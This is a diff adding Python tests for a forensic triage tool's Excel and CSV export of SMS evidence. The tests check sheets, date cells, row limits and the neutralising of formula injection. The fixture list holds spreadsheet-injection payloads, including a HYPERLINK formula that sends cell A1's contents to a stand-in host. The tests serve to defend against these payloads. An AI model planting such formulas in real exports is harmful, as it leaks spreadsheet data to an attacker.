@@ -1,0 +1,132 @@
+"""triage.xlsx beside the CSVs: one sheet per table, frozen headers, real date cells, and message
+bodies that look like formulas kept as text (in the workbook and, guarded, in the CSVs).
+
+The evidence is a real AOSP mmssms.db (tests/test_analysers_support.py) read by the real parser;
+the workbook is read back with openpyxl, as Excel would open it.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+from pathlib import Path
+
+import openpyxl
+
+from tests.test_analysers_duty import ROSTER
+from tests.test_analysers_support import Sms, build_mmssms, run, write_case
+from triage.report import workbook
+
+A = "07700 900123"
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+44 7700 900123 call me",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+CONTACT = """contacts:
+  - name: Female A
+    role: victim
+    identifiers:
+      - phone: "+44 7700 900123"
+"""
+
+
+def _case(tmp_path: Path, roster: bool = True) -> Path:
+    rows = [
+        Sms(n, A, f"2026-03-28 {10 + n}:15", "in" if n % 2 else "out", body)
+        for n, body in enumerate(HOSTILE, 1)
+    ]
+    build_mmssms(tmp_path / "evidence" / "mmssms.db", rows)
+    body = CONTACT
+    if roster:
+        (tmp_path / "roster.csv").write_text(ROSTER, "utf-8")
+        body += "roster:\n  csv: roster.csv\n"
+    return write_case(tmp_path, body + "sources:\n  - evidence\n")
+
+
+def test_workbook_sheets_dates_and_formula_text(tmp_path: Path) -> None:
+    r = run(_case(tmp_path), tmp_path / "out")
+    path = tmp_path / "out" / "triage.xlsx"
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["messages", "findings", "contacts", "gaps", "exhibits"]
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "A2", sheet.title
+        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
+    messages = book["messages"]
+    header = [c.value for c in messages[1]]
+    assert header[2] == "timestamp_local (Europe/London)"
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in messages.iter_rows(2)]
+    assert len(rows) == len(HOSTILE) == r.store.counts()["messages"]
+    # Bodies exactly as the source holds them, as text cells: nothing runs as a formula.
+    assert [row["body"] for row in rows] == HOSTILE
+    body_col = header.index("body") + 1
+    for n in range(2, len(rows) + 2):
+        cell = messages.cell(n, body_col)
+        assert cell.data_type == "s", cell.value
+    # 28 March 2026 is GMT: the local date cell is the wall time, the UTC text beside it.
+    first = rows[0]
+    assert first["timestamp_local (Europe/London)"] == dt.datetime(2026, 3, 28, 11, 15)
+    assert messages.cell(2, 3).is_date
+    assert first["timestamp_utc"] == "2026-03-28T11:15:00Z"
+    assert isinstance(first["message_id"], int)
+    contacts = book["contacts"]
+    contact = dict(zip([c.value for c in contacts[1]], [c.value for c in contacts[2]], strict=True))
+    assert contact["name"] == "Female A" and contact["messages"] == len(HOSTILE)
+    assert isinstance(contact["first (Europe/London)"], dt.datetime)
+    split = r.one("duty.contact-split", "contact-1").data
+    assert contact["outside_rostered_duty"] == split["outside_duty"]
+    findings = book["findings"]
+    assert findings.max_row - 1 == len(r.store.findings())
+
+    # The CSV holds the same bodies, guarded with an apostrophe (a CSV has no cell types).
+    with open(tmp_path / "out" / "messages.csv", encoding="utf-8-sig", newline="") as handle:
+        bodies = [row["body"] for row in csv.DictReader(handle)]
+    assert bodies == ["'" + b for b in HOSTILE]
+
+
+def test_workbook_without_roster_says_no_roster(tmp_path: Path) -> None:
+    run(_case(tmp_path, roster=False), tmp_path / "out")
+    contacts = openpyxl.load_workbook(tmp_path / "out" / "triage.xlsx")["contacts"]
+    contact = dict(zip([c.value for c in contacts[1]], [c.value for c in contacts[2]], strict=True))
+    assert contact["outside_rostered_duty"] == "no roster"
+
+
+def test_workbook_bytes_repeat_and_long_tables_continue(tmp_path: Path, monkeypatch) -> None:
+    case = _case(tmp_path)
+    r = run(case, tmp_path / "a")
+    run(case, tmp_path / "b")
+    assert (tmp_path / "a" / "triage.xlsx").read_bytes() == (
+        tmp_path / "b" / "triage.xlsx"
+    ).read_bytes()
+    # Past Excel's row limit a table continues on a numbered sheet (limit lowered to 3 rows).
+    monkeypatch.setattr(workbook, "MAX_ROWS", 3)
+    from triage.casefile import load_case
+
+    out = tmp_path / "c" / "t.xlsx"
+    out.parent.mkdir()
+    workbook.write_workbook(r.store, load_case(case), out)
+    book = openpyxl.load_workbook(out)
+    parts = [s for s in book.sheetnames if s.startswith("messages")]
+    assert parts == ["messages", "messages (2)", "messages (3)"]
+    bodies = [
+        row[14] for name in parts for row in book[name].iter_rows(min_row=2, values_only=True)
+    ]
+    assert bodies == HOSTILE
+
+
+def test_messages_sheet_past_its_limit_says_how_many_more(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("TRIAGE_LIMIT_XLSX_MESSAGE_ROWS", "2")
+    from triage.limits import limit
+
+    limit.cache_clear()
+    try:
+        run(_case(tmp_path), tmp_path / "out")
+    finally:
+        limit.cache_clear()
+    sheet = openpyxl.load_workbook(tmp_path / "out" / "triage.xlsx")["messages"]
+    bodies = [row[14] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert bodies[:2] == HOSTILE[:2]
+    assert bodies[2].startswith("... and 3 more messages, not listed here")
+    assert len(bodies) == 3
